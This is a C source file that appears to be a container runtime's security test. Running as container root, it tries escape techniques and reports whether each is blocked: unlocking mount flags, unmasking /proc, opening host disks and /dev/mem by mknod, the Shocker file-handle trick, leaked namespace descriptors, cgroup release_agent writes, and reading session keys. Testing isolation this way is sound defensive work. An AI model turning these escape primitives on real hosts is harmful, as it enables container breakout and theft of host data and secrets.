/* What root of a container tries with every capability that it was given. Each line that it writes is an attempt and how it ended:
 * the name of the error, `done`, or `none` where there was nothing to try. `root_attacker` tries all, `root_attacker mounts` only what
 * has to do with mounts, `keys` and `processes` one topic. Whatever would change the container's own mount namespace is tried in a copy of it first. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOST 200

/* Flags of a mount that the kernel locks, and their names. */
static const struct { const char *name; unsigned long flag; } LOCKED[] = {
    {"ro", MS_RDONLY}, {"nosuid", MS_NOSUID}, {"nodev", MS_NODEV}, {"noexec", MS_NOEXEC},
};

static struct { char point[256]; unsigned long flags; } mounts[MOST];
static int count;

static void report(const char *what, const char *object, int result)
{
    printf("%s %s: %s\n", what, object, result == 0 ? "done" : strerrorname_np(-result));
    fflush(stdout);
}

static int sys(long result)
{
    return result < 0 ? -errno : 0;
}

/* Runs an attempt in a child, with what it changes left behind; its result is the exit code. */
static int aside(int (*attempt)(const char *), const char *object, int namespaces)
{
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        int result = namespaces == 0 ? 0 : sys(unshare(namespaces));
        if (result == 0)
            result = attempt(object);
        _exit(-result);
    }
    int status;
    waitpid(child, &status, 0);
    return WIFEXITED(status) ? -WEXITSTATUS(status) : -ECHILD;
}

static void read_mounts(void)
{
    char line[4096], point[256], options[256];
    FILE *file = fopen("/proc/self/mountinfo", "r");
    while (file != NULL && count < MOST && fgets(line, sizeof line, file) != NULL) {
        if (sscanf(line, "%*s %*s %*s %*s %255s %255s", point, options) != 2)
            continue;
        strcpy(mounts[count].point, point);
        for (char *word = strtok(options, ","); word != NULL; word = strtok(NULL, ","))
            for (unsigned i = 0; i < 4; i++)
                if (strcmp(word, LOCKED[i].name) == 0)
                    mounts[count].flags |= LOCKED[i].flag;
        count++;
    }
    fclose(file);
}

static int detach(const char *point)
{
    return sys(umount2(point, MNT_DETACH));
}

static int move(const char *point)
{
    struct stat stat_;
    const char *to = stat(point, &stat_) == 0 && S_ISDIR(stat_.st_mode) ? "/tmp/dir" : "/tmp/file";
    return sys(mount(point, to, NULL, MS_MOVE, NULL));
}

static int clear_attribute(const char *point, unsigned long flag)
{
    struct mount_attr attr = {.attr_clr = flag == MS_RDONLY   ? MOUNT_ATTR_RDONLY
                                          : flag == MS_NOSUID ? MOUNT_ATTR_NOSUID
                                          : flag == MS_NODEV  ? MOUNT_ATTR_NODEV
                                                              : MOUNT_ATTR_NOEXEC};
    return sys(syscall(SYS_mount_setattr, AT_FDCWD, point, 0, &attr, sizeof attr));
}

/* A clone of one mount shows what lies under the others. */
static int clone_alone(const char *point)
{
    return sys(mount(point, "/tmp/dir", NULL, MS_BIND, NULL));
}

static int umount_in_clone(const char *mask)
{
    char path[300];
    int result = sys(mount("/proc", "/tmp/dir", NULL, MS_BIND | MS_REC, NULL));
    if (result != 0)
        return result;
    snprintf(path, sizeof path, "/tmp/dir%s", mask + strlen("/proc"));
    return detach(path);
}

static int umount_below_old_root(const char *mask)
{
    char path[300];
    int result = sys(mount("mine", "/tmp/dir", "tmpfs", 0, NULL));
    if (result == 0)
        result = sys(mkdir("/tmp/dir/old", 0700));
    if (result == 0)
        result = sys(syscall(SYS_pivot_root, "/tmp/dir", "/tmp/dir/old"));
    if (result != 0)
        return result;
    snprintf(path, sizeof path, "/old%s", mask);
    return detach(path);
}

static int pivot_onto_itself(const char *unused)
{
    (void)unused;
    int result = sys(syscall(SYS_pivot_root, ".", "."));
    return result == 0 ? detach(".") : result;
}

static int mount_new(const char *fstype)
{
    return sys(mount("new", "/tmp/dir", fstype, 0, NULL));
}

/* One that counts as whole and has nothing below it that is masked. */
static int whole_proc_beside_a_part(const char *unused)
{
    (void)unused;
    int result = sys(mount("new", "/tmp/dir", "proc", 0, "subset=pid"));
    return result == 0 ? sys(mount("new", "/tmp/dir2", "proc", 0, NULL)) : result;
}

/* In the first process of a pid namespace, which may mount its /proc. */
static int in_new_pids(int (*attempt)(const char *), const char *object, int namespaces)
{
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        int result = sys(unshare(namespaces | CLONE_NEWPID | CLONE_NEWNS));
        if (result == 0)
            result = aside(attempt, object, 0);
        _exit(-result);
    }
    int status;
    waitpid(child, &status, 0);
    return -WEXITSTATUS(status);
}

static int reconfigure(const char *point)
{
    int fd = syscall(SYS_fspick, AT_FDCWD, point, 0);
    if (fd < 0)
        return -errno;
    return sys(syscall(SYS_fsconfig, fd, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0));
}

/* Opens for writing; nothing is written. */
static int open_for_writing(const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    int result = sys(fd);
    close(fd);
    return result;
}

/* What below the directory can be opened for writing. */
static void writable_below(const char *dir, int depth)
{
    char path[4096];
    DIR *entries = depth > 12 ? NULL : opendir(dir);
    struct dirent *entry;
    while (entries != NULL && (entry = readdir(entries)) != NULL) {
        if (entry->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "%s/%s", dir, entry->d_name);
        if (entry->d_type == DT_DIR)
            writable_below(path, depth + 1);
        else if (entry->d_type == DT_REG && open_for_writing(path) == 0)
            report("write", path, 0);
    }
    if (entries != NULL)
        closedir(entries);
}

static void try_mounts(void)
{
    char object[300];
    /* The last ones first, because the others carry them. */
    for (int i = count - 1; i >= 0; i--) {
        const char *point = mounts[i].point;
        for (unsigned f = 0; f < 4; f++) {
            if (!(mounts[i].flags & LOCKED[f].flag))
                continue;
            snprintf(object, sizeof object, "%s of %.255s", LOCKED[f].name, point);
            report("clear", object, clear_attribute(point, LOCKED[f].flag));
            unsigned long others = mounts[i].flags & ~LOCKED[f].flag;
            report("remount without", object, sys(mount(NULL, point, NULL, MS_REMOUNT | MS_BIND | others, NULL)));
        }
        report("reconfigure", point, reconfigure(point));
        /* The root alone is no mount over something else: its own turn comes last. */
        if (strcmp(point, "/") == 0)
            continue;
        report("umount in a copy", point, aside(detach, point, CLONE_NEWNS));
        report("umount in a nested user namespace", point, aside(detach, point, CLONE_NEWUSER | CLONE_NEWNS));
        if (strncmp(point, "/proc/", 6) == 0) {
            report("umount in a clone", point, aside(umount_in_clone, point, CLONE_NEWNS));
            report("umount below the old root", point, aside(umount_below_old_root, point, CLONE_NEWNS));
        }
        report("move", point, aside(move, point, CLONE_NEWNS));
        report("umount", point, detach(point));
    }
    report("clone alone", "/proc", aside(clone_alone, "/proc", CLONE_NEWNS));
    report("clone alone", "/", aside(clone_alone, "/", CLONE_NEWNS));
    report("pivot_root onto itself", "/", aside(pivot_onto_itself, "/", CLONE_NEWNS));
    static const char *const types[] = {"proc", "sysfs"};
    for (unsigned i = 0; i < 2; i++) {
        report("mount a new", types[i], in_new_pids(mount_new, types[i], 0));
        report("mount in a nested user namespace a new", types[i],
               in_new_pids(mount_new, types[i], CLONE_NEWUSER | CLONE_NEWNET));
    }
    report("mount beside a part a whole", "proc", in_new_pids(whole_proc_beside_a_part, NULL, 0));
}

/* Is / still what it was after a step over it? */
static int chroot_and_up(const char *unused)
{
    (void)unused;
    struct stat before, after;
    stat("/", &before);
    int result = sys(chroot("/tmp/dir"));
    if (result != 0)
        return result;
    for (int i = 0; i < 64; i++)
        chdir("..");
    chroot(".");
    stat("/", &after);
    return before.st_ino == after.st_ino && before.st_dev == after.st_dev ? -EXDEV : 0;
}

static int open_node(const char *path, mode_t kind, dev_t device)
{
    unlink(path);
    int result = sys(mknod(path, kind | 0600, device));
    return result == 0 ? sys(open(path, O_RDONLY | O_NONBLOCK)) : result;
}

static void try_devices(void)
{
    char line[256], name[64], object[128];
    unsigned major_, minor_;
    FILE *file = fopen("/proc/partitions", "r");
    int disks = 0;
    while (file != NULL && fgets(line, sizeof line, file) != NULL && disks < 3) {
        if (sscanf(line, "%u %u %*s %63s", &major_, &minor_, name) != 3)
            continue;
        disks++;
        for (const char **dir = (const char *[]){"/tmp/node", "/dev/node", NULL}; *dir != NULL; dir++) {
            snprintf(object, sizeof object, "%s as %s", name, *dir);
            report("open the disk", object, open_node(*dir, S_IFBLK, makedev(major_, minor_)));
        }
    }
    report("open memory", "/dev/mem", open_node("/tmp/node", S_IFCHR, makedev(1, 1)));
}

/* Shocker (2014): a handle leads past every mount. That of ext4's root directory is the same everywhere. */
static void try_handles(const char *dir)
{
    struct { struct file_handle handle; unsigned ino[2]; } root = {{8, 1}, {2, 0}};
    int at = open(dir, O_RDONLY | O_DIRECTORY);
    report("open the host's root by handle", dir, sys(syscall(SYS_open_by_handle_at, at, &root.handle, O_RDONLY)));
    close(at);
}

static void try_descriptors(void)
{
    int entered = 0;
    for (int fd = 3; fd < 400; fd++)
        if (setns(fd, 0) == 0 || (errno != EBADF && errno != EINVAL && errno != EPERM))
            entered++;
    report("enter a namespace", "by a descriptor that leaked", entered == 0 ? -EBADF : 0);
}

static void try_processes(void)
{
    static const char *const files[] = {"root", "cwd", "exe", "ns/mnt", "ns/user"};
    char path[64], object[64];
    /* One of the host, where the container shares its pid namespace. */
    pid_t other;
    FILE *file = fopen("/other-pid", "r");
    if (file == NULL || fscanf(file, "%d", &other) != 1)
        return;
    for (unsigned i = 0; i < 5; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", other, files[i]);
        snprintf(object, sizeof object, "%s of the host's process", files[i]);
        int fd = open(path, O_RDONLY);
        report("open", object, sys(fd));
    }
}

static int write_to(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    int result = sys(write(fd, text, strlen(text)));
    close(fd);
    return result;
}

/* A hierarchy mounted anew shows the container's group; its limits, and what the kernel starts when it is empty, are not its own. */
static int limit_of_a_new_mount(const char *controller)
{
    static const char *const files[] = {"release_agent", "memory.limit_in_bytes", "pids.max", "cpu.weight", "memory.max"};
    char path[128];
    int v2 = strcmp(controller, "cgroup2") == 0;
    int result = sys(mount("new", "/tmp/dir", v2 ? "cgroup2" : "cgroup", 0, v2 ? NULL : controller));
    for (unsigned i = 0; result == 0 && i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/tmp/dir/%s", files[i]);
        if (open_for_writing(path) == 0)
            return 0;
    }
    return result == 0 ? -EACCES : result;
}

static void try_groups(void)
{
    static const char *const types[] = {"cgroup2", "memory", "pids"};
    for (unsigned i = 0; i < 3; i++)
        report("write limits of a new mount of", types[i], aside(limit_of_a_new_mount, types[i], CLONE_NEWNS));
    writable_below("/sys/fs/cgroup", 0);
}

/* The serial number of a key of the caller's session is in /key. */
static void try_keys(void)
{
    char buffer[64];
    int serial;
    FILE *file = fopen("/key", "r");
    if (file == NULL || fscanf(file, "%d", &serial) != 1)
        return;
    report("read", "the caller's key", sys(syscall(SYS_keyctl, 11 /* KEYCTL_READ */, serial, buffer, sizeof buffer)));
    report("link", "the caller's key", sys(syscall(SYS_keyctl, 8 /* KEYCTL_LINK */, serial, -3 /* the session's */)));
    report("search", "the caller's key", sys(syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3, "user", "urun-secret", 0)));
    report("request", "the caller's key", sys(syscall(SYS_request_key, "user", "urun-secret", NULL, 0)));
}

int main(int argc, char **argv)
{
    mkdir("/tmp/dir", 0700);
    mkdir("/tmp/dir2", 0700);
    close(open("/tmp/file", O_CREAT | O_WRONLY, 0600));
    if (argc > 1 && strcmp(argv[1], "keys") == 0) {
        try_keys();
    } else if (argc > 1 && strcmp(argv[1], "processes") == 0) {
        try_processes();
    } else {
        read_mounts();
        try_mounts();
        if (argc == 1) {
            report("chroot and up", "/", aside(chroot_and_up, "/", 0));
            report("write", "/proc/sysrq-trigger", write_to("/proc/sysrq-trigger", "h"));
            report("write -1000", "oom_score_adj", write_to("/proc/self/oom_score_adj", "-1000"));
            writable_below("/proc/sys", 0);
            writable_below("/sys", 0);
            try_devices();
            try_handles("/");
            try_handles("/mnt");
            try_descriptors();
            try_groups();
            try_keys();
        }
        /* Last: it takes the mount table with it, and what is below keeps its place. */
        report("umount", "/", aside(detach, "/", CLONE_NEWNS));
    }
    puts("tried");
    return 0;
}
